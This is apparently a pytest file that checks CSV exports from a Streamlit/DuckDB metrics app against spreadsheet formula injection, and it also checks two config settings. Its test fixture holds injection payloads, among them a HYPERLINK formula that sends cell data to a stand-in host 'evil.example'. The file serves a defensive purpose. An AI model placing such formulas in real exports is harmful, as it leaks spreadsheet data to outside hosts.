"""CSV exports carry no live spreadsheet formulas (OWASP CSV injection): text cells that a spreadsheet would run
get a leading quote, numbers stay numbers — in the download buttons (widgets.table) and in files written by
DuckDB's COPY (metrics.csvsafe.copy_query) alike; the grid's own unquoted toolbar export is switched off."""
import csv
import io
import tomllib
from pathlib import Path

import duckdb
import pandas as pd

from metrics.store import csvsafe

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = pd.DataFrame({
    "comment": ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
                " =1+1", "＝1+1", "-5", "+12", "-3.2 %", "plain text", "a -2+3 in the middle", "it's fine", None],
    "score": [-5, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13],
    "ratio": [-0.5, 1.5, None, 0.0, -1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0, 10.0, 11.0],
})
# Worked by hand from the rule: quote a text cell whose first non-space character is = + - @ (or the full-width
# forms), a tab, CR, LF or NUL — unless the whole cell is a signed number; never touch a numeric column.
EXPECTED = [
    ["comment", "score", "ratio"],
    ["'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")", "-5", "-0.5"],
    ["'+1+1", "0", "1.5"],
    ["'-2+3", "1", ""],
    ["'@SUM(A1)", "2", "0.0"],
    ["'\t=1", "3", "-1.0"],
    ["'\r=1", "4", "2.0"],
    ["' =1+1", "5", "3.0"],
    ["'＝1+1", "6", "4.0"],
    ["-5", "7", "5.0"],
    ["+12", "8", "6.0"],
    ["-3.2 %", "9", "7.0"],
    ["plain text", "10", "8.0"],
    ["a -2+3 in the middle", "11", "9.0"],
    ["it's fine", "12", "10.0"],
    ["", "13", "11.0"],
]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_download_bytes_quote_formulas_cell_by_cell():
    data = csvsafe.csv_bytes(HOSTILE)
    assert cells(data) == EXPECTED
    # RFC 4180: the cell holding a carriage return is enclosed in quotes, so it cannot start a row of its own.
    assert b'"\'\r=1",4,2.0\r\n' in data
    assert data.startswith(b'comment,score,ratio\r\n"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",-5,-0.5\r\n')


def test_a_table_download_button_serves_the_quoted_csv(monkeypatch):
    import widgets
    served = {}
    monkeypatch.setattr(widgets.st, "dataframe", lambda *a, **k: None)
    monkeypatch.setattr(widgets.st, "download_button", lambda label, data, **k: served.update(label=label, data=data, **k))
    widgets.table(HOSTILE, "comments")
    assert served["file_name"] == "comments.csv" and served["mime"] == "text/csv"
    assert callable(served["data"])          # written when clicked, not on every run
    assert cells(served["data"]()) == [["In their words", "Score", "Ratio"]] + EXPECTED[1:]    # the screen's words


def test_files_written_by_copy_quote_formulas_too(tmp_path):
    con = duckdb.connect()
    con.register("hostile", HOSTILE)
    con.execute("CREATE TABLE loaded AS SELECT * FROM hostile")
    out = csvsafe.copy_query(con, "SELECT * FROM loaded WHERE score >= $low ORDER BY score", tmp_path / "problems.csv",
                             {"low": -10})
    assert out == str(tmp_path / "problems.csv")
    rows = cells(Path(out).read_bytes())
    # DuckDB writes doubles as it prints them (1.5, 0.0 as 0.0) and NULL as empty: the same cells as the frame's.
    assert rows == EXPECTED
    assert not list(tmp_path.glob("*.partial"))


def test_the_grids_own_unquoted_export_is_switched_off():
    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert settings["client"]["disableDataExport"] is True


def test_the_metrics_endpoint_publishes_no_user_attributes_and_is_blocked_at_the_proxy():
    """/_stcore/metrics cannot be turned off in Streamlit 1.67; it stays free of per-user labels and the README
    tells operators to refuse it at the reverse proxy."""
    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert settings["server"]["unsafeMetricsUserAttributes"] == []
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "location /_stcore/metrics" in readme and "return 404;" in readme
